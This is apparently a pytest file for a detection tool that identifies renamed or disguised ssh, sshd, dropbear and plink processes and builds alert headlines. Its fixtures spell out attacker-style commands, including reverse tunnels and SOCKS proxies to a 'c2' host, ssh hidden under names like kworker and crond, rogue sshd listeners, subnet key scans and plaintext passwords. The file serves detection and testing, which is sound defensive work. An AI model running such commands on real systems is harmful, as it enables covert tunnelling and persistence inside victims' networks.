"""SSH programs under another name: copies, files in memory, the loader, multi-call programs, plink."""

import shlex

import pytest

from app.domain.event import event_from_ecs
from app.domain.ssh import MASK, FindingKind, ForwardKind, SshInvocation, parse_ssh

# process name | executable | command line -> headline in the container `web`
READ = """
    x | /tmp/x | ssh root@10.0.0.7
        -> ssh under the name x to 10.0.0.7 as root
    memfd:a | /memfd:ssh (deleted) | a -p 2222 root@h
        -> ssh under the name memfd:a to h:2222 as root
    exe | /proc/self/exe | ssh -NR 1080 c2
        -> Reverse SOCKS proxy out of web to c2, ssh under the name exe
    x | /usr/bin/ssh | x u@h
        -> ssh under the name x to h as u
    slogin | /usr/bin/ssh | slogin h
        -> slogin to h
    x | /usr/sbin/sshd (deleted) | x -D -p 4444
        -> sshd under the name x started inside web, port 4444
    ld-linux-x86-64.so.2 | /usr/lib/ld-linux-x86-64.so.2 | /lib64/ld-linux-x86-64.so.2 /usr/bin/ssh u@h
        -> ssh under the name ld-linux-x86-64.so.2 to h as u
    ld-musl-x86_64.so.1 |  | /lib/ld-musl-x86_64.so.1 --library-path /x --preload a.so /tmp/dbclient u@h/2222
        -> dbclient under the name ld-musl-x86_64.so.1 to h:2222 as u
    dropbearmulti | /usr/bin/dropbearmulti | dropbearmulti ssh -p 2222 root@10.0.0.7
        -> dbclient to 10.0.0.7:2222 as root
    dropbearmulti | /usr/bin/dropbearmulti | dbclient root@10.0.0.7
        -> dbclient to 10.0.0.7 as root
    dropbearmulti | /usr/bin/dropbearmulti | dropbearmulti dropbear -p 2222
        -> dropbear started inside web, port 2222
    busybox | /bin/busybox | busybox dbclient root@10.0.0.7
        -> dbclient to 10.0.0.7 as root
    x | /tmp/x | /tmp/x -oStrictHostKeyChecking=no root@10.0.0.7
        -> ssh under the name x to 10.0.0.7 as root
    x | /tmp/x | ./x -o UserKnownHostsFile=/dev/null db
        -> ssh under the name x to db
    kworker | /dev/shm/kworker | kworker -fNR 8080:localhost:80 c2
        -> Reverse tunnel out of web to c2, ssh under the name kworker
    crond |  | crond -i /root/.ssh/id_ed25519 root@10.0.0.7
        -> ssh under the name crond to 10.0.0.7 as root
    x | /tmp/x | /tmp/x -J a@b c@d
        -> ssh under the name x to d as c
    x | /tmp/x | /tmp/x -p 2222 root@203.0.113.9
        -> ssh under the name x to 203.0.113.9:2222 as root
    ssh-keyscan | /tmp/ssh-keyscan | ssh-keyscan -N -R 8080:localhost:80 root@c2
        -> Reverse tunnel out of web to c2, ssh under the name ssh-keyscan
    scp | /tmp/scp | scp -fNw 0:0 root@c2
        -> Network tunnel out of web to c2, ssh under the name scp
    httpd | /tmp/httpd | /tmp/httpd -D -p 4444 -f /tmp/c -h /tmp/k
        -> sshd under the name httpd started inside web, port 4444
    plink | /usr/bin/plink | plink -ssh -P 2222 -l root -pw secret 10.0.0.7 id
        -> plink to 10.0.0.7:2222 as root
    plink | /usr/bin/plink | plink -batch -N -R 8080:localhost:80 u@c2
        -> Reverse tunnel out of web to c2
    ssh-keyscan |  | ssh-keyscan -T 1 10.0.0.0/24
        -> ssh-keyscan asks 10.0.0.0/24 for host keys from web
    ssh-keyscan |  | ssh-keyscan -p 2222 a,b c
        -> ssh-keyscan asks a and 2 more targets for host keys from web
    ssh-keyscan |  | ssh-keyscan -4Hf /tmp/targets
        -> ssh-keyscan asks the hosts in /tmp/targets for host keys from web
    ssh-keyscan |  | ssh-keyscan
        -> ssh-keyscan asks no host for host keys from web
"""

# process name | executable | command line
NOT_SSH = """
    kubectl | /usr/bin/kubectl | kubectl --context admin@kubernetes exec -i web -- cat /tmp/x
    docker | /usr/bin/docker | docker run -ti -v /tmp/x alpine@sha256:4bcff63911fcb4448bd4fdacec207030
    curl | /usr/bin/curl | curl -i -u svc@corp:pw https://h/ -o /tmp/x
    rg | /usr/bin/rg | rg -i root@example.com /tmp/mail
    sudo | /usr/bin/sudo | sudo -u svc@corp -i /home/svc/run
    ld-linux-x86-64.so.2 |  | /lib64/ld-linux-x86-64.so.2 --verify /usr/bin/ssh
    ld-linux-x86-64.so.2 |  | /lib64/ld-linux-x86-64.so.2 /bin/true /usr/bin/ssh
    busybox | /bin/busybox | busybox wget http://mirror.example/ssh
    bash | /bin/bash | bash -i /tmp/x root@h -p 22
    python3 | /usr/bin/python3 | python3 -i x.py a@b -p 22
    httpd | /usr/sbin/httpd | httpd -D FOREGROUND -f /etc/httpd.conf
    x | /tmp/x | /tmp/x root@10.0.0.7
    x | /tmp/x | /tmp/x
"""


def rows(table: str) -> list[tuple[str, ...]]:
    """Return the columns of each line; a line that begins with `->` is a further column."""
    lines = table.strip().replace("\n        ->", " |").splitlines()
    return [tuple(map(str.strip, line.split("|"))) for line in lines]


def parse(name: str, executable: str | None, line: str) -> SshInvocation | None:
    return parse_ssh(name, shlex.split(line), executable=executable)


@pytest.mark.parametrize(("name", "executable", "line", "headline"), rows(READ))
def test_a_renamed_program_is_read_as_the_program_it_is(
    name: str, executable: str, line: str, headline: str
) -> None:
    process = {"name": name, "args": shlex.split(line)}
    document = {
        "container": {"name": "web"},
        "process": process | ({"executable": executable} if executable else {}),
    }
    event = event_from_ecs(document)
    assert event.headline == headline
    assert event.ssh is not None
    assert event.ssh.has_finding(FindingKind.RENAMED) is ("under the name" in headline)


@pytest.mark.parametrize(("name", "executable", "line"), rows(NOT_SSH))
def test_other_programs_with_similar_arguments_are_not_read_as_ssh(
    name: str, executable: str, line: str
) -> None:
    assert parse(name, executable, line) is None


def test_a_renamed_program_has_the_findings_of_its_arguments() -> None:
    invocation = parse("x", "/memfd:x (deleted)", "ssh -A -R 2222:localhost:22 root@203.0.113.9")
    assert invocation is not None
    assert {finding.kind for finding in invocation.findings} == {
        FindingKind.REMOTE_FORWARD,
        FindingKind.AGENT_FORWARDING,
        FindingKind.RENAMED,
    }
    (renamed,) = (f for f in invocation.findings if f.kind is FindingKind.RENAMED)
    assert renamed.message == (
        "ssh runs under the name x, so rules that test the process name do not find it."
    )
    assert renamed.arg_indexes == (0,)


def test_the_arguments_before_the_program_of_the_dynamic_loader_are_not_its_options() -> None:
    invocation = parse("ld.so", None, "ld.so --library-path /x --argv0 sshd /usr/bin/ssh -i k h")
    assert invocation is not None
    assert (invocation.program, invocation.destination) == ("ssh", "h")
    assert invocation.identity_files == ("k",)


def test_the_password_of_plink_is_masked() -> None:
    args = shlex.split("plink -l root -pw secret 10.0.0.7")
    invocation = parse_ssh("plink", args)
    assert invocation is not None
    assert "secret" not in repr(invocation)
    assert invocation.has_finding(FindingKind.PASSWORD_ARGUMENT)
    event = event_from_ecs({"process": {"name": "plink", "args": args}})
    assert event.process.command_line == f"plink -l root -pw {MASK} 10.0.0.7"


def test_all_targets_of_ssh_keyscan_are_read() -> None:
    invocation = parse("ssh-keyscan", None, "ssh-keyscan -t rsa 10.0.0.1,10.0.0.2 DB 10.1.0.0/16")
    assert invocation is not None
    assert invocation.destination == "10.0.0.1"
    assert invocation.more_targets == ("10.0.0.2", "DB", "10.1.0.0/16")


# The caller of execve(2) chooses argv[0], so argv[0] must not choose how the arguments are read.
TUNNEL = "Reverse tunnel out of web to c2, ssh under the name x"


@pytest.mark.parametrize(
    "line",
    [
        "sshd -t -fNR 8080:db:80 root@c2",
        "ssh-keyscan -fNR 8080:db:80 root@c2",
        "busybox -fNR 8080:db:80 root@c2",
        "ld-linux.so -fNR 8080:db:80 root@c2",
        "plink -fNR 8080:db:80 root@c2",
        "scp -R8080:db:80 root@c2",
    ],
)
def test_argv0_does_not_hide_the_forwards_of_a_copy_of_ssh(line: str) -> None:
    process = {"name": "x", "executable": "/opt/x", "args": shlex.split(line)}
    event = event_from_ecs({"container": {"name": "web"}, "process": process})
    assert event.headline == TUNNEL


def test_a_renamed_program_gets_no_points_for_opening_no_connection() -> None:
    invocation = parse("x", "/opt/x", "sshd -t")
    assert invocation is not None
    assert not invocation.has_finding(FindingKind.NO_CONNECTION)


@pytest.mark.parametrize(
    ("name", "executable", "line"),
    [
        ("x", "/usr/bin/sshpass", "x -p hunter2 ssh root@h"),
        ("memfd:sshpass (deleted)", "/memfd:sshpass (deleted)", "x -phunter2 ssh root@h"),
        ("plink", None, "plink -P 22 -pw hunter2 -l root h"),
    ],
)
def test_passwords_are_masked_under_every_name(
    name: str, executable: str | None, line: str
) -> None:
    process = {"name": name, "args": shlex.split(line)}
    event = event_from_ecs(
        {"process": process | ({"executable": executable} if executable else {})}
    )
    assert "hunter2" not in event.process.command_line
    assert "hunter2" not in repr(event.ssh)


def test_pw_is_no_password_option_of_ssh() -> None:
    """ssh warns that the key file `-pw` is missing, and connects (ssh(1), option -i)."""
    event = event_from_ecs(
        {
            "container": {"name": "web"},
            "process": {"name": "ssh", "args": ["ssh", "-i", "-pw", "203.0.113.9"]},
        }
    )
    assert event.headline == "ssh to 203.0.113.9"


def test_options_of_plink_may_follow_the_host_and_the_last_port_counts() -> None:
    invocation = parse("plink", None, "plink -P 22 root@c2 -N -R 8080:db:80 -P 4444")
    assert invocation is not None
    assert (invocation.port, [forward.kind for forward in invocation.forwards]) == (
        4444,
        [ForwardKind.REMOTE],
    )


def test_a_copy_of_ssh_under_the_name_plink_is_read_as_ssh() -> None:
    event = event_from_ecs(
        {
            "container": {"name": "web"},
            "process": {
                "name": "plink",
                "args": ["plink", "-oBatchMode=yes", "-fNR", "8080:db:80", "root@c2"],
            },
        }
    )
    assert event.headline == "Reverse tunnel out of web to c2, ssh under the name plink"


def test_long_arguments_in_one_text_are_split_in_linear_time() -> None:
    """shlex takes quadratic time for a long word: minutes for one event of the largest size."""
    process = {"name": "ssh", "args": "ssh " + "a" * 2_000_000}
    event = event_from_ecs({"process": process})
    assert len(event.process.args) == 2
